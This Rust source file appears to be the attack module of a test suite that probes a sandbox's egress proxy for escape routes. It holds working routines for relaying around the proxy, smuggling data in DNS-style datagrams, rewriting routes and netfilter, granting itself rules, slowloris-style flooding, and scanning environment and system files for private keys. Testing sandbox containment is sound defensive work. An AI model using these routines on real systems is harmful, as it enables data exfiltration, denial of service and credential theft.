//! Attacks on the egress door and on what leads to it.

use super::{call, claim, hold, say, tell};
use rustls::{
    ClientConfig, ClientConnection, RootCertStore, StreamOwned,
    pki_types::{CertificateDer, ServerName, pem::PemObject},
};
use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket},
    os::unix::net::UnixStream,
    sync::Arc,
    thread,
    time::{Duration, Instant},
};

/// How long an answer may take.
const PATIENCE: Duration = Duration::from_secs(2);
const DOOR: &str = "127.0.0.1:3128";
/// Of one answer, so much is told.
const TOLD: usize = 2000;

pub(super) fn attack(name: &str, arguments: &[&str]) -> Option<()> {
    match (name, arguments) {
        ("speak", all) => speak_all(all),
        ("speak-and-wait", all) => {
            speak_all(all);
            hold();
        }
        ("speak-by-relay", all) => {
            relay();
            speak_all(all);
        }
        ("ask-then-speak", [stem, count, all @ ..]) => {
            ask_many(stem, count.parse().ok()?);
            speak_all(all);
        }
        ("datagrams", [text, addresses @ ..]) => datagrams(text, addresses),
        ("tamper", all) => {
            tamper();
            speak_all(all);
        }
        ("grant-oneself", [host, socket, all @ ..]) => {
            grant_oneself(host, socket);
            speak_all(all);
        }
        ("flood-door", [count]) => flood(count.parse().ok()?),
        ("time", [count, host]) => time(count.parse().ok()?, host),
        ("find-key", [wanted]) => find_key(wanted),
        ("speak-secretly", [host, text]) => {
            let told = speak_secretly(host, text).map_err(|error| error.to_string());
            say(&format!(
                "hears {}",
                told.unwrap_or_else(|error| error)
                    .replace(['\r', '\n'], " ")
            ));
        }
        _ => return None,
    }
    Some(())
}

/// `MARK WHERE PARTS`, again and again; parts are bytes in hexadecimal, with commas between them.
fn speak_all(all: &[&str]) {
    for words in all.chunks_exact(3) {
        let said = speak(words[1], words[2]).unwrap_or_default();
        let said =
            String::from_utf8_lossy(&said[..said.len().min(TOLD)]).replace(['\r', '\n'], " ");
        say(&format!("{} hears {said}", words[0]));
    }
}

/// Says one part after the other, each when the one before was answered; what is heard at last.
fn speak(to: &str, parts: &str) -> Option<Vec<u8>> {
    let addresses = to.to_socket_addrs().ok()?.take(4);
    let mut connected = addresses.filter_map(|at| TcpStream::connect_timeout(&at, PATIENCE).ok());
    let mut stream = connected.next()?;
    stream.set_read_timeout(Some(PATIENCE)).ok()?;
    stream.set_write_timeout(Some(PATIENCE)).ok()?;
    let parts: Vec<_> = parts.split(',').map(bytes).collect();
    let (last, first) = parts.split_last()?;
    let mut heard = vec![0; 64 << 10];
    for part in first {
        stream.write_all(part).ok()?;
        let count = stream.read(&mut heard).ok()?;
        // Refused already.
        if count == 0 {
            return None;
        }
    }
    // Who is refused may hear so before all is said.
    _ = stream.write_all(last);
    if !last.ends_with(b"\r\n\r\n") {
        // Nobody waits for the rest of a request.
        _ = stream.shutdown(std::net::Shutdown::Write);
    }
    let mut heard = Vec::new();
    _ = stream.take(1 << 20).read_to_end(&mut heard);
    Some(heard)
}

fn bytes(text: &str) -> Vec<u8> {
    let digit = |at: usize| {
        text.get(at..at + 2)
            .and_then(|pair| u8::from_str_radix(pair, 16).ok())
    };
    (0..text.len()).step_by(2).filter_map(digit).collect()
}

/// A way to the door that is somebody else's, at port 3130.
fn relay() {
    let Ok(listener) = TcpListener::bind("127.0.0.1:3130") else {
        return;
    };
    thread::spawn(move || {
        while let Ok((near, _)) = listener.accept() {
            let Ok(far) = TcpStream::connect(DOOR) else {
                continue;
            };
            let (Ok(near_too), Ok(far_too)) = (near.try_clone(), far.try_clone()) else {
                continue;
            };
            thread::spawn(move || pump(near, far));
            thread::spawn(move || pump(far_too, near_too));
        }
    });
}

fn pump(mut from: TcpStream, mut to: TcpStream) {
    _ = std::io::copy(&mut from, &mut to);
    _ = to.shutdown(std::net::Shutdown::Write);
}

/// Asks for many names, as fast as they are answered.
fn ask_many(stem: &str, count: usize) {
    let Ok(socket) = UdpSocket::bind("127.0.0.1:0") else {
        return;
    };
    _ = socket.set_read_timeout(Some(Duration::from_millis(500)));
    let mut answered = 0;
    for number in 0..count {
        let name = format!("n{number}.{stem}");
        let labels = name
            .split('.')
            .flat_map(|label| [&[label.len() as u8], label.as_bytes()].concat());
        let mut question = [&[7, 7, 1, 0, 0, 1][..], &[0; 6]].concat();
        question.extend(labels.chain([0, 0, 1, 0, 1]));
        let asked = socket
            .send_to(&question, "127.0.0.1:53")
            .and_then(|_| socket.recv(&mut [0; 512]));
        answered += usize::from(asked.is_ok());
    }
    say(&format!("answered {answered}"));
}

/// Sends a text to each of these, in the clothes of a datagram and of a question for a name.
fn datagrams(text: &str, addresses: &[&str]) {
    let label = [&[text.len() as u8], text.as_bytes()].concat();
    let question = [
        &[7, 7, 1, 0, 0, 1][..],
        &[0; 6],
        &label,
        &[7],
        b"example",
        &[0, 0, 16, 0, 1],
    ]
    .concat();
    for address in addresses
        .iter()
        .filter_map(|address| address.parse::<SocketAddr>().ok())
    {
        let here = if address.is_ipv4() {
            "0.0.0.0:0"
        } else {
            "[::]:0"
        };
        let Ok(socket) = UdpSocket::bind(here) else {
            continue;
        };
        for words in [text.as_bytes(), &question] {
            _ = socket.send_to(words, address);
        }
        _ = socket.set_read_timeout(Some(Duration::from_millis(50)));
        _ = socket.recv(&mut [0; 512]);
    }
    // One that the kernel sends for us.
    _ = call!(
        libc::SYS_socket,
        libc::AF_INET,
        libc::SOCK_DGRAM,
        libc::IPPROTO_ICMP
    );
}

/// Takes the door's places, and changes what leads to it.
fn tamper() {
    let kinds = [("routes", 0), ("tables", libc::NETLINK_NETFILTER)];
    for (what, protocol) in kinds {
        let socket = call!(libc::SYS_socket, libc::AF_NETLINK, libc::SOCK_RAW, protocol);
        if let Some(socket) = claim(&format!("{what} can be changed"), socket) {
            // As `ip route del local default table local`.
            let message: Vec<u8> = [
                &[36, 0, 0, 0, 25, 0, 5, 0][..],
                &[0; 8],
                &[
                    2, 0, 0, 0, 255, 0, 255, 0, 0, 0, 0, 0, 8, 0, 4, 0, 1, 0, 0, 0,
                ],
            ]
            .concat();
            _ = call!(
                libc::SYS_sendto,
                socket,
                message.as_slice(),
                message.len(),
                0,
                0,
                0
            );
        }
    }
    for at in ["127.0.0.1:53", "0.0.0.0:53"] {
        claim(
            &format!("the place of names, {at}, can be taken"),
            UdpSocket::bind(at),
        );
    }
    for at in [DOOR, "0.0.0.0:3128"] {
        claim(
            &format!("the door's place, {at}, can be taken"),
            TcpListener::bind(at),
        );
    }
}

/// Asks the door, and whoever can change its rules, for another rule.
fn grant_oneself(host: &str, socket: &str) {
    let ask = format!("{{\"op\":\"grant\",\"host\":\"{host}\",\"seconds\":900}}\n");
    if let Some(mut stream) = claim(&format!("{socket} answers"), UnixStream::connect(socket)) {
        let mut told = [0; 4096];
        _ = stream
            .set_read_timeout(Some(PATIENCE))
            .and_then(|()| stream.write_all(ask.as_bytes()));
        let count = stream.read(&mut told).unwrap_or(0);
        say(&format!(
            "{socket} says {}",
            String::from_utf8_lossy(&told[..count])
        ));
    }
    for method in ["POST", "PUT", "PATCH", "DELETE"] {
        for path in ["/v1/rules", "/", "/admin", "/v1/grant"] {
            let Ok(mut stream) = TcpStream::connect(DOOR) else {
                continue;
            };
            let length = ask.len();
            let head =
                format!("{method} {path} HTTP/1.1\r\nHost: {DOOR}\r\nContent-Length: {length}\r\n");
            _ = stream.set_read_timeout(Some(PATIENCE));
            _ = stream.write_all(format!("{head}Connection: close\r\n\r\n{ask}").as_bytes());
            _ = stream.read_to_end(&mut Vec::new());
        }
    }
}

/// Connections that begin and never go on.
fn half_open(count: usize) -> Vec<TcpStream> {
    let begun = (0..count).filter_map(|number| {
        let mut stream = TcpStream::connect(DOOR).ok()?;
        let words: &[u8] = if number % 2 == 0 {
            b"GET http://allowed.example/ HTTP/1.1\r\nA: "
        } else {
            b"\x05"
        };
        stream.write_all(words).ok()?;
        Some(stream)
    });
    begun.collect()
}

/// Half-open connections, then heads that have no end, until the host has seen enough.
fn flood(count: usize) {
    let _held = half_open(count);
    thread::spawn(|| {
        let line = format!("X-Long: {}\r\n", "a".repeat(60_000));
        loop {
            let Ok(mut stream) = TcpStream::connect(DOOR) else {
                continue;
            };
            _ = stream.set_write_timeout(Some(PATIENCE));
            _ = stream.write_all(b"GET http://allowed.example/ HTTP/1.1\r\n");
            while stream.write_all(line.as_bytes()).is_ok() {}
        }
    });
    hold();
}

/// Tells how long the slowest of so many requests took, and how many were answered.
fn time(count: usize, host: &str) {
    let request =
        format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    let (mut slowest, mut answered) = (Duration::ZERO, 0);
    for _ in 0..count {
        let (began, mut heard) = (Instant::now(), Vec::new());
        if let Ok(mut stream) = TcpStream::connect(DOOR) {
            _ = stream.set_read_timeout(Some(PATIENCE * 5));
            _ = stream.write_all(request.as_bytes());
            _ = stream.read_to_end(&mut heard);
        }
        answered += usize::from(heard.starts_with(b"HTTP/1.1 200"));
        slowest = slowest.max(began.elapsed());
    }
    say(&format!("slowest {}", slowest.as_millis()));
    say(&format!("answered {answered}"));
}

/// Looks for the key of the door's authority wherever it might lie.
fn find_key(wanted: &str) {
    for place in [
        "/airlock/certificates.pem",
        "/proc/self/environ",
        "/proc/1/environ",
        wanted,
    ] {
        let text = std::fs::read_to_string(place).unwrap_or_default();
        if text.contains("PRIVATE KEY") {
            say(&format!("claim a key lies in {place}"));
        }
    }
    for folder in ["/airlock", "/run", "/tmp", "/etc", "/var", "/workspace"] {
        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
            let path = entry.path();
            let small = entry
                .metadata()
                .is_ok_and(|found| found.is_file() && found.len() < 1 << 16);
            if small
                && std::fs::read_to_string(&path).is_ok_and(|text| text.contains("PRIVATE KEY"))
            {
                tell(&path.to_string_lossy());
                say(&format!("claim a key lies in {}", path.display()));
            }
        }
    }
    let certificates = std::fs::read_to_string("/airlock/certificates.pem").unwrap_or_default();
    let own = certificates
        .rsplit("-----BEGIN CERTIFICATE-----")
        .next()
        .unwrap_or_default();
    say(&format!(
        "certificate {}",
        own.split_whitespace().collect::<String>()
    ));
}

/// In TLS that the door ends, trusting whom programs here are told to trust.
fn speak_secretly(host: &str, text: &str) -> Result<String, Box<dyn std::error::Error>> {
    let mut roots = RootCertStore::empty();
    let known = CertificateDer::pem_file_iter("/airlock/certificates.pem")?;
    roots.add_parsable_certificates(known.flatten());
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config =
        ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions()?;
    let config = config.with_root_certificates(roots).with_no_client_auth();
    let client = ClientConnection::new(Arc::new(config), ServerName::try_from(host.to_owned())?)?;
    let mut stream = TcpStream::connect(DOOR)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream
        .write_all(format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n").as_bytes())?;
    let mut answer = [0; 4096];
    let count = stream.read(&mut answer)?;
    if !answer[..count].starts_with(b"HTTP/1.1 200") {
        return Ok(String::from_utf8_lossy(&answer[..count]).into_owned());
    }
    let mut secured = StreamOwned::new(client, stream);
    let request = format!("GET /{text} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    secured.write_all(request.as_bytes())?;
    let mut heard = Vec::new();
    // Ended without a word, what was heard was heard.
    _ = secured.read_to_end(&mut heard);
    Ok(String::from_utf8_lossy(&heard).into_owned())
}
